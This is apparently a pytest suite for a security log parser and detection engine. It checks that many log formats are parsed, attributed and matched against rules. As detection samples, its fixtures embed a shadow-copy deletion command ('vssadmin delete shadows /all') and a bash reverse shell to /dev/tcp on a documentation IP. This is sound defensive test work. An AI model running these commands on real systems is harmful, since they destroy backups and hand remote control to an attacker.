"""Logs as exports, collectors and devices write them: each is known, says whose it is and when, and reaches the rules; nothing in a
record can pretend to be what the reader knows of it."""

from __future__ import annotations

import json
import time
from contextlib import suppress
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.core.batch import Batch
from assay.core.kind import RowError, sniff
from assay.core.profile import Profile
from assay.kinds.hosts.batches import moment_of
from assay.kinds.hosts.detector import detectors
from assay.kinds.hosts.event_xml import record_of_xml
from assay.kinds.hosts.reader import JsonLog
from assay.kinds.hosts.sources import normal, several

SIGMA = detectors(None)[0]
EVENT = (
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing'/>"
    "<EventID>4688</EventID><TimeCreated SystemTime='2026-03-02T10:00:01.1234567Z'/><Execution ProcessID='4' ThreadID='8'/>"
    "<Channel>Security</Channel><Computer>PC7</Computer><Security/></System><EventData><Data Name='SubjectUserName'>eva</Data>"
    "<Data Name='NewProcessName'>C:\\Windows\\System32\\vssadmin.exe</Data><Data Name='CommandLine'>vssadmin delete shadows /all &amp; rem</Data>"
    "</EventData></Event>"
)
LINUX = (
    '<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><TimeCreated SystemTime="2026-03-02T10:00:01.123456000Z"/>'
    '<Channel>Linux-Sysmon/Operational</Channel><Computer>lnx01</Computer></System><EventData><Data Name="Image">/usr/bin/bash</Data>'
    '<Data Name="CommandLine">bash -i &gt;&amp; /dev/tcp/198.51.100.7/443 0&gt;&amp;1</Data><Data Name="User">www-data</Data></EventData></Event>'
)
REFUSED = "Failed password for root from 203.0.113.5 port 40000 ssh2"
WAZUH = {
    "timestamp": "2026-03-02T10:00:01.123+0000", "rule": {"level": 5, "id": "5716", "description": "sshd: authentication failed."},
    "agent": {"id": "001", "name": "lnx01"}, "manager": {"name": "m"}, "full_log": f"Mar  2 10:00:01 lnx01 sshd[8]: {REFUSED}",
}  # fmt: skip
WAZUH_WINDOWS = WAZUH | {"data": {"win": {
    "system": {"providerName": "Microsoft-Windows-Sysmon", "eventID": "1", "channel": "Microsoft-Windows-Sysmon/Operational", "computer": "PC7", "systemTime": "2026-03-02T10:00:01.1Z"},
    "eventdata": {"image": "C:\\Windows\\System32\\vssadmin.exe", "commandLine": "vssadmin delete shadows /all", "user": "CORP\\eva"},
}}}  # fmt: skip
LOGS: dict[str, tuple[str | bytes, dict[str, Any], str]] = {
    "export.xml": (f"<?xml version='1.0' encoding='utf-8'?>\n<Events>{EVENT}{EVENT}</Events>", {"host": "PC7", "user": "eva"}, "Shadow copies deleted"),
    "wide.xml": (f"<Events>{EVENT}</Events>".encode("utf-16"), {"host": "PC7"}, "Shadow copies deleted"),
    "sysmon.log": (f"Mar  2 10:00:01 lnx01 sysmon[8]: {LINUX}\n", {"host": "lnx01", "user": "www-data"}, "Shell that talks"),
    "journal.json": (json.dumps({"__REALTIME_TIMESTAMP": "1772445601000000", "_HOSTNAME": "lnx01", "SYSLOG_IDENTIFIER": "sshd", "MESSAGE": REFUSED}), {"host": "lnx01", "user": "root", "ip": "203.0.113.5"}, ""),
    "journal-sysmon.json": (json.dumps({"__REALTIME_TIMESTAMP": "1772445601000000", "_HOSTNAME": "lnx01", "SYSLOG_IDENTIFIER": "sysmon", "MESSAGE": LINUX}), {"host": "lnx01"}, "Shell that talks"),
    "wazuh.json": (json.dumps(WAZUH), {"host": "lnx01", "user": "root", "ip": "203.0.113.5"}, ""),
    "wazuh-windows.json": (json.dumps(WAZUH_WINDOWS), {"host": "PC7", "user": "CORP\\eva"}, "Shadow copies deleted"),
    "elastic.json": (json.dumps({"_index": "winlogbeat-8", "_id": "x", "_source": {"@timestamp": "2026-03-02T10:00:01Z", "winlog": {"channel": "Security", "event_id": "1102", "computer_name": "PC7"}}}), {"host": "PC7"}, "Security log cleared"),
    "asa.log": ("<166>Mar 02 2026 10:00:01 fw01 : %ASA-6-302013: Built outbound TCP connection 1\n", {"host": "fw01"}, ""),
    "ios.log": ("<189>1234: sw01: *Mar  2 10:00:01.123 CET: %SYS-5-CONFIG_I: Configured from console by eva\n", {"host": "sw01"}, ""),
    "forti.log": ('<189>date=2026-03-02 time=11:00:01 devname="FGT60" devid="F" tz="+0100" logid="0100032001" type="event" user="admin" srcip=198.51.100.9 action="login"\n', {"host": "FGT60", "user": "admin", "ip": "198.51.100.9"}, ""),
    "cef.log": ("<14>Mar 2 10:00:01 pan01 CEF:0|Palo Alto Networks|PAN-OS|11|threat|spyware|8|rt=Mar 02 2026 10:00:01 GMT src=10.0.0.5 suser=corp\\\\eva request=http://x/a?b\\=1\n", {"host": "pan01", "user": "corp\\eva", "ip": "10.0.0.5"}, ""),
    "github.json": (json.dumps({"@timestamp": 1772445601000, "_document_id": "d", "action": "repo.destroy", "actor": "eva", "actor_ip": "203.0.113.5", "org": "corp"}), {"user": "eva", "ip": "203.0.113.5"}, ""),
    "m365.json": (json.dumps({"CreationTime": "2026-03-02T10:00:01", "Operation": "New-InboxRule", "RecordType": 1, "Workload": "Exchange", "ClientIP": "203.0.113.5:52311", "UserId": "eva@corp.example"}), {"user": "eva@corp.example", "ip": "203.0.113.5"}, ""),
    "analytics.json": (json.dumps({"TenantId": "t", "TimeGenerated": "2026-03-02T10:00:01Z", "OperationName": "Sign-in activity", "Category": "SignInLogs", "ResultType": "50126", "UserPrincipalName": "eva@corp.example", "IPAddress": "203.0.113.5"}), {"user": "eva@corp.example", "ip": "203.0.113.5"}, ""),
    "audit.k8s.json": (json.dumps({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": "a", "verb": "create", "user": {"username": "eva"}, "sourceIPs": ["203.0.113.5"], "requestReceivedTimestamp": "2026-03-02T10:00:01Z"}), {"user": "eva", "ip": "203.0.113.5"}, ""),
}  # fmt: skip


def read(path: Path) -> tuple[list[Batch[Any]], list[RowError]]:
    found = sniff(path)
    assert found is not None
    assert found[0].name == "hosts"
    refused: list[RowError] = []
    return list(found[1].read(path, reject=refused.append)), refused


@pytest.mark.parametrize("name", LOGS)
def test_each_make_is_known_and_reaches_the_rules(tmp_path: Path, name: str) -> None:
    content, whom, rule = LOGS[name]
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    (batch,), refused = read(path)
    assert refused == []
    assert abs(int(batch.time[0]) - 1_772_445_601_000_000) < 1_000_000
    for column, value in whom.items():
        assert batch.columns[column][0] == value, column
    SIGMA.forget()  # type: ignore[attr-defined]
    findings = SIGMA.examine(batch, Profile.empty(len(batch)))
    told = [r.values["title"] for f in findings.explain(np.flatnonzero(findings.verdict)) for r in f.reasons]
    assert any(title.startswith(rule) for title in told) if rule else not told


def test_a_broken_event_is_refused_alone(tmp_path: Path) -> None:
    bomb = '<Event><System><!ENTITY a "b"></System></Event>'
    path = tmp_path / "a.xml"
    path.write_text(f"<Events>{EVENT}<Event><System></Events></Event>{bomb}{EVENT}<Event><System>", "utf-8")
    batches, refused = read(path)
    assert sum(map(len, batches)) == 2
    assert [error.row for error in refused] == [2, 3, 5]


def test_an_endless_event_hides_no_other(tmp_path: Path) -> None:
    path = tmp_path / "a.xml"
    path.write_text("<Events>" + EVENT + "<Event><System>" + "x" * (3 << 20) + EVENT + "</Events>", "utf-8")
    began = time.process_time()
    batches, refused = read(path)
    assert sum(map(len, batches)) == 2
    assert len(refused) == 1
    assert time.process_time() - began < 5


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=80), st.integers(0, len(EVENT)), st.integers(0, 20))
def test_any_event_is_a_record_or_refused(noise: str, at: int, cut: int) -> None:
    with suppress(ValueError):
        assert "_id" in record_of_xml(EVENT[:at] + noise + EVENT[at + cut :])


def test_a_record_cannot_say_what_the_reader_knows() -> None:
    """An application that writes down what it is sent must not let a stranger choose which rules its log is asked."""
    record = normal(
        {
            "EventID": 1102,
            "Channel": "Security",
            "_channel": "other",
            "_id": 7,
            "_product": "linux",
            "_hints": "x",
            "_untimed": "1",
        }
    )
    assert (record["_channel"], record["_id"], record.get("_product"), record.get("_hints")) == (
        "security",
        1102,
        None,
        None,
    )
    assert "_untimed" not in record


GOT = {
    "Id": 4688, "LogName": "Security", "MachineName": "PC7", "ProviderName": "Microsoft-Windows-Security-Auditing", "RecordId": 9,
    "TimeCreated": "/Date(1772359200000)/", "Message": "Ein neuer Prozess wurde erstellt.",
    "Properties": [{"Value": v} for v in (
        "S-1-5-18", "eva", "CORP", 999, 420, r"C:\Windows\System32\vssadmin.exe", "%%1936", 4, "vssadmin delete shadows /all",
    )],
}  # fmt: skip


def test_what_powershell_exports_is_known_by_place_in_any_language(tmp_path: Path) -> None:
    (flat,) = several(GOT)
    assert (flat["Image"], flat["CommandLine"], flat["LogonId"]) == (
        r"C:\Windows\System32\vssadmin.exe",
        "vssadmin delete shadows /all",
        "0x3e7",
    )
    assert (flat["_channel"], flat["_id"], flat["Computer"]) == ("security", 4688, "PC7")
    assert moment_of(flat) == 1_772_359_200_000_000
    message = (
        "Processus cr\u00e9\u00e9:\r\nUtcTime: 2026-03-01 10:00:00.000\r\nImage: C:\\x.exe\r\nCommandLine: x.exe -a: b"
    )
    (sysmon,) = several(GOT | {"LogName": "Microsoft-Windows-Sysmon/Operational", "Id": 1, "Message": message})
    assert (sysmon["Image"], sysmon["CommandLine"]) == ("C:\\x.exe", "x.exe -a: b")
    (other,) = several(GOT | {"Id": 1234, "TimeCreated": "/Date(9999999999999999)/"})
    assert "vssadmin delete shadows /all" in other["Data"]
    assert moment_of(other) is None
    for broken in (
        {"Properties": 7},
        {"Properties": [None, {"Value": {"a": []}}]},
        {"Message": None, "TimeCreated": {}},
    ):
        assert all("LogName" in f or "Channel" in f for f in several(GOT | broken))
    path = tmp_path / "events.json"
    path.write_text(json.dumps([GOT]), "utf-8")
    assert JsonLog().sniff(path.read_bytes(), path) > 0.5
